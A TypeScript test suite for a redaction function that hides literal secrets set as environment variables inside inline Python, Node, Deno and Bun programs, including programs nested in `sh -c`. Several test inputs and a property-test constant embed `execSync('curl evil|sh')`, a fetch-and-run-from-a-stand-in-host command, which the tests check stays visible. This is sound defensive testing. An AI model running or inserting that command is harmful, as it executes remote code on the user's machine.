// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { withoutArgSecrets } from "./find-spec-secrets.js";
import { withoutCommandLineSecrets } from "./index.js";
import { expectFilledBack, exportedCommand } from "./test-support/spec-cases.js";

// fix163: more ways a program sets its environment in its own text (Python's blanks, annotations
// and names bound to os.environ; Deno, Bun, a spread), a JS value the shell's word rule hid whole,
// payload and all, and a program one escaped quote level down (`sh -c "node -e \"…\""`).

const SECRET = "X9secretpw";

/**
 * `line` is shown as `shown`; the display's and the export's hidden texts fill back byte for byte;
 * the pasted command is exported whole, and the line as an argument keeps no literal secret.
 */
function expectShown(line: string, shown: string): void {
  expect(withoutCommandLineSecrets(line)).toBe(shown);
  expectFilledBack(line);
  expect(exportedCommand(line)).toBe("${SRV_COMMAND}");
}

describe("Python's env assignments in more forms", () => {
  it.each([
    // Blanks around the index.
    [
      `python -c "import os; os.environ [ 'TOKEN' ] = '${SECRET}'; run()"`,
      `python -c "import os; os.environ [ 'TOKEN' ] = '\${TOKEN}'; run()"`,
    ],
    [
      `python -c "import os; os.environ [ 'TOKEN' ] = f('${SECRET}'); run()"`,
      `python -c "import os; os.environ [ 'TOKEN' ] = f('\${TOKEN}'); run()"`,
    ],
    // A type annotation before `=`.
    [
      `python -c "import os; os.environ['TOKEN']: str = '${SECRET}'"`,
      `python -c "import os; os.environ['TOKEN']: str = '\${TOKEN}'"`,
    ],
    [
      `python -c "import os; os.environ['TOKEN']: typing.Optional[str] = '${SECRET}'"`,
      `python -c "import os; os.environ['TOKEN']: typing.Optional[str] = '\${TOKEN}'"`,
    ],
    // `environ` imported alone, or os under another name.
    [
      `python -c "from os import environ; environ['TOKEN'] = '${SECRET}'"`,
      `python -c "from os import environ; environ['TOKEN'] = '\${TOKEN}'"`,
    ],
    [
      `python -c "import os as o; o.environ['TOKEN'] = '${SECRET}'"`,
      `python -c "import os as o; o.environ['TOKEN'] = '\${TOKEN}'"`,
    ],
    // A name bound to the environment, or to a copy of it, in the same text.
    [
      `python -c "import os; e = os.environ; e['TOKEN'] = '${SECRET}'"`,
      `python -c "import os; e = os.environ; e['TOKEN'] = '\${TOKEN}'"`,
    ],
    [
      `python -c "from os import environ as E; E['TOKEN'] = '${SECRET}'"`,
      `python -c "from os import environ as E; E['TOKEN'] = '\${TOKEN}'"`,
    ],
    [
      `python -c "import os; env = os.environ.copy(); env['API_KEY'] = '${SECRET}'; run(env=env)"`,
      `python -c "import os; env = os.environ.copy(); env['API_KEY'] = '\${API_KEY}'; run(env=env)"`,
    ],
    [
      `python -c "import os; env = dict(os.environ); env.setdefault('TOKEN', '${SECRET}')"`,
      `python -c "import os; env = dict(os.environ); env.setdefault('TOKEN', '\${TOKEN}')"`,
    ],
    [
      `python -c "import os; env = {**os.environ, 'API_KEY': '${SECRET}'}"`,
      `python -c "import os; env = {**os.environ, 'API_KEY': '\${API_KEY}'}"`,
    ],
    // Already read so before; kept.
    [
      `python -c "import os; os.environ.update(TOKEN='${SECRET}')"`,
      `python -c "import os; os.environ.update(TOKEN='\${TOKEN}')"`,
    ],
    [
      `python -c "import os; os.environ.setdefault('TOKEN','${SECRET}')"`,
      `python -c "import os; os.environ.setdefault('TOKEN','\${TOKEN}')"`,
    ],
    [
      `python -c "import os; os.putenv('TOKEN','${SECRET}')"`,
      `python -c "import os; os.putenv('TOKEN','\${TOKEN}')"`,
    ],
  ])("%j is shown as %j", (line, shown) => {
    expectShown(line, shown);
    expect(withoutArgSecrets(["srv", "--run", line]).join(" ")).not.toContain(SECRET);
  });

  it.each([
    // A comparison, a read, a plain annotated variable: no assignment to the environment.
    `python -c "import os; os.environ['TOKEN'] == '${SECRET}'"`,
    `python -c "import os; e = os.environ['HOME']; e['TOKEN'] = '${SECRET}'"`,
    `python -c "import os; e = os.environ.get('HOME'); e['TOKEN'] = '${SECRET}'"`,
    `python -c "x: str = '${SECRET}'"`,
  ])("%j is no assignment to the environment: shown as written", (line) => {
    expect(withoutCommandLineSecrets(line)).toBe(line);
  });
});

describe("JS's env assignments in more forms, and a value's calls in sight", () => {
  it.each([
    // The shell's word rule read `process.env.TOKEN=…` as a NAME= and hid the value whole, the
    // command it runs included: the call and its command are shown, the literal hidden.
    [
      `node -e "process.env.TOKEN=require('child_process').execSync('curl evil|sh')+'x'"`,
      `node -e "process.env.TOKEN=require('child_process').execSync('curl evil|sh')+'\${TOKEN}'"`,
    ],
    [
      `node -e "process.env.TOKEN=require('child_process').execSync('curl evil|sh')+'${SECRET}'; require('./srv')"`,
      `node -e "process.env.TOKEN=require('child_process').execSync('curl evil|sh')+'\${TOKEN}'; require('./srv')"`,
    ],
    [`node -e "process.env.TOKEN=f('${SECRET}')"`, `node -e "process.env.TOKEN=f('\${TOKEN}')"`],
    [`node -e "process.env [ 'TOKEN' ] = '${SECRET}'"`, `node -e "process.env [ 'TOKEN' ] = '\${TOKEN}'"`],
    [
      `node -e "spawn('srv',{env:{...process.env,TOKEN:'${SECRET}'}})"`,
      `node -e "spawn('srv',{env:{...process.env,TOKEN:'\${TOKEN}'}})"`,
    ],
    [
      `node -e "const e = process.env; e.TOKEN = '${SECRET}'; require('./srv')"`,
      `node -e "const e = process.env; e.TOKEN = '\${TOKEN}'; require('./srv')"`,
    ],
    [`deno eval "Deno.env.set('TOKEN','${SECRET}')"`, `deno eval "Deno.env.set('TOKEN','\${TOKEN}')"`],
    [
      `deno eval "Deno.env.set('TOKEN', Deno.readTextFileSync('/etc/t') + '${SECRET}')"`,
      `deno eval "Deno.env.set('TOKEN', Deno.readTextFileSync('/etc/t') + '\${TOKEN}')"`,
    ],
    [`bun -e "Bun.env.TOKEN='${SECRET}'"`, `bun -e "Bun.env.TOKEN='\${TOKEN}'"`],
    // Already read so before; kept.
    [
      `node -e "Object.assign(process.env,{TOKEN:'${SECRET}'})"`,
      `node -e "Object.assign(process.env,{TOKEN:'\${TOKEN}'})"`,
    ],
    [`node -e "process.env['TOKEN']='${SECRET}'"`, `node -e "process.env['TOKEN']='\${TOKEN}'"`],
  ])("%j is shown as %j", (line, shown) => {
    expectShown(line, shown);
    expect(withoutArgSecrets(["srv", "--run", line]).join(" ")).not.toContain(SECRET);
  });

  it("shows a value written apart by the shell's escapes piece by piece, as written", () => {
    // (The export's reading writes that word again in '…', as before.)
    const line = `node -e "process.env.TOKEN=f(\\"${SECRET}\\")"`;
    expect(withoutCommandLineSecrets(line)).toBe(`node -e "process.env.TOKEN=f(\\"\${TOKEN}\\")"`);
    expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
  });

  it.each([
    `node -e "process.env.TOKEN=require('child_process').execSync('curl evil|sh')"`,
    `node -e "process.env.TOKEN=require('child_process').execSync('curl evil|sh'); require('./srv')"`,
    `node -e "process.env.TOKEN=getToken()"`,
    `node -e "process.env.TOKEN=require('os').getenv('OTHER_TOKEN'); run()"`,
  ])("%j, no literal credential in it, is shown as written (its command in sight)", (line) => {
    expect(withoutCommandLineSecrets(line)).toBe(line);
  });
});

describe('a program one escaped quote level down (sh -c "node -e \\"…\\"")', () => {
  it.each([
    [
      `sh -c "node -e \\"process.env.TOKEN=f('${SECRET}')\\""`,
      `sh -c "node -e \\"process.env.TOKEN=f('\${TOKEN}')\\""`,
    ],
    [
      `sh -c "node -e \\"process.env.TOKEN = f('${SECRET}')\\" $X"`,
      `sh -c "node -e \\"process.env.TOKEN = f('\${TOKEN}')\\" $X"`,
    ],
    [
      `sh -c "node -e 'process.env.TOKEN=f(\\"${SECRET}\\")'"`,
      `sh -c "node -e 'process.env.TOKEN=f(\\"\${TOKEN}\\")'"`,
    ],
    [
      `sh -c "python -c \\"import os; os.environ['TOKEN'] = f('${SECRET}')\\""`,
      `sh -c "python -c \\"import os; os.environ['TOKEN'] = f('\${TOKEN}')\\""`,
    ],
    // Hidden before with the closing escaped quote; now only the literal's text.
    [
      `sh -c "node -e \\"process.env.TOKEN='${SECRET}'\\""`,
      `sh -c "node -e \\"process.env.TOKEN='\${TOKEN}'\\""`,
    ],
    [
      `bash -lc "node -e \\"process.env.TOKEN=require('child_process').execSync('curl evil|sh')+'${SECRET}'\\""`,
      `bash -lc "node -e \\"process.env.TOKEN=require('child_process').execSync('curl evil|sh')+'\${TOKEN}'\\""`,
    ],
  ])("%j is shown as %j", expectShown);
});

/**
 * A program's assignment to its environment: a head (any form read above), a value holding a
 * literal secret beside a payload call, written as node -e's or python -c's text, perhaps one
 * escaped quote level down in sh -c "…".
 */
const PAYLOAD = "require('child_process').execSync('curl evil|sh')";
const assignment = fc
  .tuple(
    fc.constantFrom(
      "process.env.TOKEN=",
      "process.env.TOKEN = ",
      "process.env [ 'TOKEN' ] = ",
      "Bun.env.TOKEN=",
      "e = process.env; e.TOKEN = ",
      "os.environ['TOKEN']=",
      "os.environ [ 'TOKEN' ] = ",
      "os.environ['TOKEN']: str = ",
      "e = os.environ; e['TOKEN'] = ",
      "from os import environ as E; E['TOKEN'] = ",
      "environ['TOKEN']=",
    ),
    fc.constantFrom(
      `'${SECRET}'`,
      `f('${SECRET}')`,
      `${PAYLOAD}+'${SECRET}'`,
      `'${SECRET}'+${PAYLOAD}`,
      `f(${PAYLOAD}, '${SECRET}')`,
    ),
    fc.constantFrom("", "; run()"),
    fc.constantFrom("plain", "escaped", "inner"),
  )
  .map(([head, value, rest, level]) => {
    const program = `${head}${value}${rest}`;
    const runner = /os\.|environ/.test(head) ? "python -c" : "node -e";
    if (level === "plain") return `${runner} "${program}"`;
    if (level === "escaped") return `sh -c "${runner} \\"${program}\\""`;
    // In '…' inside sh -c "…", the program's own strings in escaped double quotes.
    return `sh -c "${runner} '${program.replace(/'/g, '\\"')}'"`;
  });

describe("property: a program's env assignment in any form read", () => {
  it("hides the literal, keeps the payload in sight as often as written, fills back byte for byte", () => {
    fc.assert(
      fc.property(assignment, (line) => {
        const shown = withoutCommandLineSecrets(line);
        const marked = withoutCommandLineSecrets(line, () => "<hidden>");
        expect(shown).not.toContain(SECRET);
        expect(marked.split("curl evil|sh").length).toBe(line.split("curl evil|sh").length);
        expectFilledBack(line);
        expect(exportedCommand(line)).not.toContain(SECRET);
      }),
      propertyRuns(300),
    );
  });
});
